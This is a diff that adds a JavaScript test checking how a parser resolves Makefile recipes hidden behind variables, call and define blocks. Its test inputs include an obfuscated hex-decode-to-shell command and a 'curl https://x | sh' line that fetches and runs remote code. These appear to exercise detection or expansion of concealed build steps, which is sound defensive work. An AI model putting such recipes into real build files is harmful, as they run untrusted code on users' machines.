@@ -63,6 +63,14 @@ it("reads what a Makefile takes in, what a recipe makes, and a justfile's values
   ]);
 });
 
+it('reads a recipe that is kept under a name, wherever that is given', () => {
+  const text = 'ok:\n\t@$(call tune)\n\nA := 6375\ntune = echo $(A) 726c | xxd -r -p | sh\n';
+  expect(lowered(text, 'makefile')[0]).toBe('echo 6375 726c | xxd -r -p | sh');
+  expect(lowered('define go\n\t@curl https://x | sh\nendef\nall:\n\t$(go)\n', 'makefile')).toContain(
+    'curl https://x | sh',
+  );
+});
+
 it('reads recipes that are indented by blanks, and no assignment as one', () => {
   expect(lowered('setup:\n    npm ci\n    echo a | sh\n\nA = 1\n    B = 2\n', 'makefile')).toEqual([
     'npm ci',
